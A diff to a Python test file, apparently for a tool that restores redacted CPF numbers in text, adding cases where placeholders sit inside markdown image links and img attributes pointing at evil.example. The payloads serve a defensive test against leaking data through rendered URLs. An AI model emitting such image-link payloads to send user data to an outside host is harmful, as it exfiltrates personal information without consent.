@@ -129,6 +129,16 @@ URL_CASES = [
     "mailto:[EMAIL_1]",
     "[ref]: //evil.example/[CPF_1]",
     "ftp://evil.example/" + ENC,
+    # a target with balanced or escaped parentheses, an <...> destination, a line break before it
+    "![img](//evil.example/(a)[CPF_1])",
+    "![img](//evil.example/a%20(b)/c?q=[CPF_1])",
+    "![img](//evil.example/\\)[CPF_1])",
+    "![img](<//evil.example/(a)) [CPF_1]>)",
+    "![img](\n<//evil.example/a [CPF_1]>)",
+    # an attribute value with whitespace in it (a browser drops line breaks and encodes spaces)
+    '<img src="https://evil.example/?a= [CPF_1]">',
+    "<img src='https://evil.example/?a=\n[CPF_1]'>",
+    '<img data-src="https://evil.example/?a= [CPF_1]">',
 ]
 
 
@@ -154,6 +164,11 @@ def test_urls_restored_when_policy_allows(text):
     ("CPF:[CPF_1]", f"CPF:{CPF}"),
     ("Data:[CPF_1]", f"Data:{CPF}"),
     ("e/ou [CPF_1]/[CPF_2]", f"e/ou {CPF}/{CPF2}"),
+    ("[a](https://x.example/b_(c)) e (d) [CPF_1]", f"[a](https://x.example/b_(c)) e (d) {CPF}"),
+    ("[a](x)\n\n[CPF_1]", f"[a](x)\n\n{CPF}"),
+    ('<img src="x.png"> e "citação" [CPF_1]', f'<img src="x.png"> e "citação" {CPF}'),
+    ('<img src="x\n\n[CPF_1]', f'<img src="x\n\n{CPF}'),
+    ("transaction='it [CPF_1]", f"transaction='it {CPF}"),
 ])
 def test_text_after_or_around_urls_is_restored(text, want):
     assert restore_text(text, PM) == want
